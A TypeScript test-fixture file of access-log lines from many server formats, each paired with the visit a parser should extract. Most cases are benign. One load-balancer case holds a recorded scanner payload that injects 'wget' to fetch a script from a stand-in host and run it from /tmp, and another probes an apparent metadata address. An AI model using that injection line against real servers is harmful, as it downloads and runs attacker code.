/** Access log lines of servers, and the visits read from them. */
import type { WorldCase } from '../world.ts'

/** `log`: a file or lines; `format`: as configured in the server, if it cannot be detected. */
export type SentLog = { log: Buffer | readonly string[]; format?: string }
/** Of the last line: a visit, or another count. */
export type RightLog =
  | { ip: string; url: string; userAgent: string; referrer?: string; time?: string }
  | 'skipped'
  | 'hostless'
  | 'noRequest'
  | 'unreadable'

const AGENT = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36'
const PLUS = AGENT.replaceAll(' ', '+')
const IP = '81.2.69.142'
const visit = (more: Partial<Exclude<RightLog, string>> = {}): RightLog => ({
  ip: IP,
  url: 'https://shop.example/land?a=1',
  userAgent: AGENT,
  ...more,
})
const IIS =
  'date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status'
const CLOUDFRONT =
  'date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id x-host-header cs-protocol cs-bytes'
const LAND = '"GET /land?a=1 HTTP/1.1"'

export const ACCESS_LOGS: readonly WorldCase<SentLog, RightLog>[] = [
  {
    from: 'allinurl/goaccess#124',
    sent: { log: [`shop.example ${IP} - - [27/Jun/2014:17:00:00 +0200] ${LAND} 200 134`] },
    right: visit({ userAgent: '', time: '2014-06-27T15:00:00.000Z' }),
    level: 'pure',
  },
  {
    from: 'allinurl/goaccess#784',
    sent: { log: [`${IP}, 10.33.17.4, 10.1.1.2 - - [26/May/2017:04:33:14 +0000] ${LAND} 200 24015 "-" "${AGENT}"`] },
    right: visit(),
    level: 'pure',
  },
  {
    from: 'eldy/AWStats#95',
    sent: { log: [`10.0.0.8, ::ffff:${IP} - - [09/Mar/2018:15:59:04 +0000] ${LAND} 200 33 "-" "${AGENT}"`] },
    right: visit(),
    level: 'pure',
  },
  {
    from: 'dmikusa/top-logs#7',
    sent: { log: [`${IP}, 10.10.10.4,10.10.10.5 - - [17/Dec/2020:09:00:00 +0000] ${LAND} 200 33 "-" "${AGENT}"`] },
    right: visit(),
    level: 'pure',
  },
  {
    from: 'allinurl/goaccess#1758',
    sent: {
      log: [
        `2a02:6b8::2:242, 10.36.42.175, 10.36.30.137 127.0.0.1 - - [05/May/2020:21:25:27 +0000] 24675 ${LAND} 200 "https://news.example/" "${AGENT}" 1250 947`,
      ],
    },
    right: visit({ ip: '2a02:6b8::2:242', referrer: 'https://news.example/' }),
    level: 'pure',
  },
  {
    from: 'allinurl/goaccess#119',
    sent: {
      log: [`${IP} - - [22/May/2014:04:02:04 +1000] 1939 ${LAND} 200 6846 "-" "${AGENT}" "-" -/- (-)`],
    },
    right: visit({ time: '2014-05-21T18:02:04.000Z' }),
    level: 'pure',
    why: 'numbers of the server’s own stand between the time and the request; no other reading of the line is possible',
  },
  {
    from: 'allinurl/goaccess#61',
    sent: {
      log: [
        `${IP} - - [05/Dec/2013:04:02:07 -0800] 481 1386244927.610 0.001 201 ${LAND} 25 "-" "${AGENT}" "-" - shop.example`,
      ],
    },
    right: visit(),
    level: 'pure',
  },
  {
    from: 'matomo-org/matomo#7228',
    sent: { log: [`${IP} -  -  [21/Feb/2015:18:24:17 +0000] ${LAND} 200 0 "-" "${AGENT}"`] },
    right: visit(),
    level: 'pure',
    why: 'Jetty writes two spaces',
  },
  {
    from: 'matomo-org/matomo-log-analytics#197',
    sent: {
      format:
        'log_format vhosts \'$host $remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"\';',
      log: [`shop.example ${IP} - - [04/Dec/2017:18:37:32 -0200] ${LAND} 200 20932 "-" "${AGENT}"`],
    },
    right: visit(),
    level: 'pure',
  },
  {
    from: 'allinurl/goaccess#615',
    sent: {
      format: '"$http_x_forwarded_for" [$time_local] "$request" $status $bytes_sent "$http_referer" "$http_user_agent"',
      log: [`"${IP}, 10.43.4.4, 10.10.10.2" [14/Sep/2016:22:17:50 +0200] ${LAND} 200 1586 "-" "${AGENT}" "0.2"`],
    },
    right: visit(),
    level: 'pure',
  },
  {
    from: 'allinurl/goaccess#984',
    sent: {
      format: String.raw`LogFormat "\"%{X-Forwarded-For}i\" %l %u %t \"%r\" %>s %O \"%{Referer}i\" \"%{User-Agent}i\"" combined`,
      log: [`"${IP}" - - [31/Dec/2017:06:56:16 +0330] "GET /land?a=%D8%A2 HTTP/1.1" 200 11029 "-" "${AGENT}"`],
    },
    right: visit({ url: 'https://shop.example/land?a=%D8%A2' }),
    level: 'pure',
  },
  {
    from: 'allinurl/goaccess#1161',
    sent: {
      format: String.raw`LogFormat "%h (%{X-Forwarded-For}i) %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-agent}i\"" forwarded`,
      log: [`10.0.2.100 (${IP}, 162.158.74.157) - - [27/Jun/2018:06:54:33 -0400] ${LAND} 200 24917 "-" "${AGENT}"`],
    },
    right: visit(),
    level: 'pure',
  },
  {
    from: 'allinurl/goaccess#1161',
    sent: {
      format: String.raw`"%h (%{X-Forwarded-For}i) %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-agent}i\""`,
      log: [`${IP} (-) - - [27/Jun/2018:06:54:35 -0400] ${LAND} 301 - "-" "${AGENT}"`],
    },
    right: visit(),
    level: 'pure',
  },
  {
    from: 'allinurl/goaccess#1517',
    sent: {
      format: String.raw`LogFormat "%{X-Forwarded-For}i,%l,%u,%t,\"%r\",%>s,%b,microsec,%D,WAS,%{WAS}e"`,
      log: [`${IP},-,-,[01/Jan/2019:00:00:32 -0300],${LAND},200,366,microsec,8847,WAS,myhost:8081`],
    },
    right: visit({ userAgent: '' }),
    level: 'pure',
  },
  {
    from: 'allinurl/goaccess#1517',
    sent: {
      format: String.raw`LogFormat "%{X-Forwarded-For}i,%l,%u,%t,\"%r\",%>s,%b,microsec,%D,WAS,%{WAS}e"`,
      log: ['-,-,-,[01/Jan/2019:00:00:32 -0300],"GET /server-status?auto HTTP/1.1",200,4255,microsec,556,WAS,-'],
    },
    right: 'unreadable',
    level: 'pure',
    why: 'a visit without an address is nobody’s; the line is counted, and its like shown',
  },
  {
    from: 'allinurl/goaccess#445',
    sent: {
      format: String.raw`LogFormat "%t \"%h %{X-FORWARDED-FOR}i\" \"%{X-IHG-REQUEST-PROTOCOL}i://%{Host}i%U%q\" %>s %B %D \"%{Referer}i\" \"%{User-Agent}i\"" accessip`,
      log: [
        `[16/Jun/2016:01:59:57 -0400] "10.210.101.4 ${IP}, 60.210.20.244, 10.233.174.212" "HTTPS://shop.example/land?a=1" 218 366204 489250 "-" "${AGENT}"`,
      ],
    },
    right: visit(),
    level: 'pure',
    why: 'a log that does not say the method is taken to be of GET: pages are what such a log is kept for',
  },
  {
    from: 'allinurl/goaccess#1255',
    sent: {
      log: [`shop.example:443 host-28.isp.example - ann [04/Oct/2018:07:53:48 +0200] ${LAND} 200 427 "-" "${AGENT}"`],
    },
    right: 'unreadable',
    level: 'pure',
    why: 'a name in place of the address may lead elsewhere by now, so the visitor is not known',
  },
  {
    from: 'traefik/traefik#3942',
    sent: {
      log: [
        `${IP} - - [27/Sep/2018:18:25:09 +0000] ${LAND} 200 1022 "-" "${AGENT}" 1234 "frontend" "http://192.168.10.10:8080" 2ms`,
      ],
    },
    right: visit(),
    level: 'pure',
  },
  {
    from: 'xavier-hernandez/goaccess-for-nginxproxymanager#108',
    sent: {
      log: [
        `{"ClientAddr":"${IP}:63251","ClientHost":"${IP}","ClientPort":"63251","ClientUsername":"-","DownstreamStatus":200,"RequestAddr":"shop.example","RequestHost":"shop.example","RequestMethod":"GET","RequestPath":"/land?a=1","RequestPort":"-","RequestScheme":"https","StartLocal":"2024-12-29T12:42:41.965891254+01:00","StartUTC":"2024-12-29T11:42:41.965891254Z","level":"info","msg":"","time":"2024-12-29T12:42:41+01:00"}`,
      ],
    },
    right: visit({ userAgent: '', time: '2024-12-29T11:42:41.965Z' }),
    level: 'pure',
  },
  {
    from: 'allinurl/goaccess#2387',
    sent: {
      log: [
        `{"level":"info","ts":1664321642.8666267,"logger":"http.log.access.log4","msg":"handled request","request":{"remote_ip":"${IP}","remote_port":"56620","proto":"HTTP/2.0","method":"GET","host":"shop.example","uri":"/land?a=1","headers":{"User-Agent":["${AGENT}"],"Accept":["*/*"]}},"status":200}`,
      ],
    },
    right: visit({ time: '2022-09-27T23:34:02.867Z' }),
    level: 'pure',
  },
  {
    from: 'allinurl/goaccess#2814',
    sent: {
      log: [
        `{"level":"info","ts":1743003163.1276934,"request":{"remote_ip":"edge-router connId=2147483679, logical=sdk[router=tls:router.example:443]","remote_port":"","client_ip":"","method":"GET","host":"shop.example","uri":"/land?a=1","headers":{"X-Forwarded-For":["${IP}, 100.32.2.68"],"User-Agent":["${AGENT}"]}}}`,
      ],
    },
    right: visit(),
    level: 'pure',
    why: 'the connection has no address of its own, so the header is what is left',
  },
  {
    from: 'allinurl/goaccess#2601',
    sent: {
      log: [
        `{"ts":1703415994.3220897,"request":{"remote_ip":"172.18.0.1","client_ip":"${IP}","method":"GET","host":"shop.example","uri":"/land?a=1","headers":{"User-Agent":["${AGENT}"]}}}`,
      ],
    },
    right: visit(),
    level: 'pure',
  },
  {
    from: 'allinurl/goaccess#2735',
    sent: {
      log: [
        `#Fields: ${IIS} time-taken X-Forwarded-For`,
        `2024-10-01 00:00:06 10.0.0.9 GET /land a=1 443 - 172.18.23.68 ${PLUS} https://shop.example/ 200 85 ${IP}:33453,+172.16.0.1:49770`,
      ],
    },
    right: visit({ referrer: 'https://shop.example/', time: '2024-10-01T00:00:06.000Z' }),
    level: 'pure',
  },
  {
    from: 'matomo-org/matomo#261',
    sent: {
      log: [
        '#Software: IIS Advanced Logging Module',
        `#Fields:  ${IIS}`,
        `2014-04-10 12:40:24.190 10.0.0.9 GET /land "a=1" 80 - "${IP}" "${AGENT}" - 200`,
      ],
    },
    right: visit({ time: '2014-04-10T12:40:24.190Z' }),
    level: 'pure',
  },
  {
    from: 'matomo-org/matomo-log-analytics#9',
    sent: {
      log: [
        '#Software: Netscaler Web Logging(NSWL)',
        '#Fields: date time c-ip cs-username sc-servicename s-ip s-port cs-method cs-uri-stem cs-uri-query sc-status cs-bytes sc-bytes time-taken cs-version cs(User-Agent) cs(Cookie) cs(Referer)',
        `2014-02-18 11:55:13 ${IP} - HTTP 192.168.6.254 8080 GET /land a=1 302 247 355 0 HTTP/1.1 ${PLUS} - -`,
      ],
    },
    right: visit(),
    level: 'pure',
  },
  {
    from: 'matomo-org/matomo-log-analytics#37',
    sent: {
      log: [
        '#Fields: date time cs-uri-stem cs-uri-query c-ip cs(User-Agent) cs(Referer) sc-status time-taken',
        `2014-09-27 10:00:00 /land a=1 ${IP} ${PLUS} http://news.example/Index.aspx 200 436000`,
      ],
    },
    right: visit({ referrer: 'http://news.example/Index.aspx' }),
    level: 'pure',
  },
  {
    from: 'crowdsecurity/hub#1203',
    sent: {
      log: [
        '#Fields: date time s-sitename s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status',
        `2024-12-23 10:00:00 W3SVC2 WEB1 10.0.0.9 GET /land a=1 443 - ${IP} ${PLUS} - 200`,
      ],
    },
    right: visit(),
    level: 'pure',
  },
  {
    from: 'allinurl/goaccess#713',
    sent: {
      log: [
        `#Fields: ${IIS}`,
        `2017-03-26 00:00:01 10.0.0.9 GET /land a=1 80 - ${IP} BUbiNG+(+http://law.di.unimi.it/BUbiNG.html) - 200`,
      ],
    },
    right: visit({ userAgent: 'BUbiNG (+http://law.di.unimi.it/BUbiNG.html)' }),
    level: 'pure',
    why: 'a plus before an address is one that programs write; every other stands for a space',
  },
  {
    from: 'matomo-org/matomo-log-analytics#43',
    sent: {
      log: [
        `#Fields: ${IIS}`,
        `2014-11-18 00:00:00 10.0.0.9 GET /land a=1 80 - ${IP} Mozilla/5.0+(compatible;+bingbot/2.0;++http://www.bing.com/bingbot.htm) - 302`,
      ],
    },
    right: visit({ userAgent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)' }),
    level: 'pure',
  },
  {
    from: 'matomo-org/matomo-log-analytics#59',
    sent: {
      log: [
        `#Fields: ${CLOUDFRONT}`,
        `2014-07-21\t01:58:45\tDFW3\t563\t${IP}\tGET\td111.cloudfront.example\t/land\t301\t-\t${AGENT.replaceAll(' ', '%2520')}\ta=1\t-\tRedirect\tNLm==\tshop.example\thttps\t188`,
      ],
    },
    right: visit(),
    level: 'pure',
  },
  {
    from: 'elastic/integrations#10216',
    sent: {
      log: [
        `#Fields: ${CLOUDFRONT}`,
        `2019-12-04\t21:02:31\tLAX1\t392\t2a02:cf40:add:4002:91f2:a9b2:e09a:6fc6\tGET\td111.cloudfront.example\t/land\t200\t-\t${AGENT.replaceAll(' ', '%20')}\ta=1\t-\tHit\tSOX==\tshop.example\thttps\t23`,
      ],
    },
    right: visit({ ip: '2a02:cf40:add:4002:91f2:a9b2:e09a:6fc6' }),
    level: 'pure',
  },
  {
    from: 'elastic/integrations#3491',
    sent: {
      log: [
        `http 2022-05-12T06:41:29.051646Z app/admin/3011821a43ee0c5e ${IP}:41542 - -1 -1 -1 301 - 233 390 "GET http://shop.example:80/shell?cd+/tmp;wget+ a.example/jaws;sh+/tmp/jaws HTTP/1.1" "Hello, world" - - - "Root=1-627cac19" "-" "-" 0 2022-05-12T06:41:29.051000Z "redirect"`,
      ],
    },
    right: visit({
      url: 'http://shop.example/shell?cd+/tmp;wget+%20a.example/jaws;sh+/tmp/jaws',
      userAgent: 'Hello, world',
    }),
    level: 'pure',
    why: 'no browser sends a space, but the scanner that did visited, and is to be counted',
  },
  {
    from: 'aws-samples/siem-on-amazon-opensearch-service#31',
    sent: {
      log: [
        `2020-12-23T00:00:00.000000Z clb ${IP}:4711 10.0.0.9:10080 0.000041 0.010378 0.000037 400 400 0 2963 "GET https://[::ffff:a9fe:a9fe]:443/ HTTP/1.1" "${AGENT}" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2`,
      ],
    },
    right: visit({ url: 'https://[::ffff:a9fe:a9fe]/' }),
    level: 'pure',
  },
  {
    from: 'LogentriesCommunity/le-aws-cloudwatch#11',
    sent: {
      log: [
        `https 2019-08-20T17:21:03.644841Z app/prod/a629 ${IP}:55908 - -1 -1 -1 302 - 1141 210 "HEAD https://shop.example:443/ HTTP/1.1" "${AGENT}" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 - "Root=1-5d5c" "shop.example" "session-reused" 41 2019-08-20T17:21:03.644000Z "redirect" "https://shop.example:443/en/" "-"`,
      ],
    },
    right: 'skipped',
    level: 'pure',
    why: 'HEAD opens no page',
  },
  {
    from: 'https://nginx.org/en/docs/http/ngx_http_log_module.html#log_format',
    sent: {
      log: [String.raw`81.2.69.142 - - [20/Nov/2026:18:31:55 +0000] "\x16\x03\x01\x02\x00\x01\x00" 400 157 "-" "-"`],
    },
    right: 'noRequest',
    level: 'pure',
  },
  {
    from: 'https://httpd.apache.org/docs/2.4/mod/mod_reqtimeout.html',
    sent: { log: [`${IP} - - [20/Nov/2026:18:31:55 +0000] "-" 408 - "-" "-"`] },
    right: 'noRequest',
    level: 'pure',
  },
  {
    from: 'https://www.unicode.org/faq/utf_bom.html',
    sent: {
      log: Buffer.from(`\uFEFF${IP} - - [20/Nov/2026:18:31:55 +0000] ${LAND} 200 5 "-" "${AGENT}"\r\n`),
    },
    right: visit(),
    level: 'pure',
  },
]
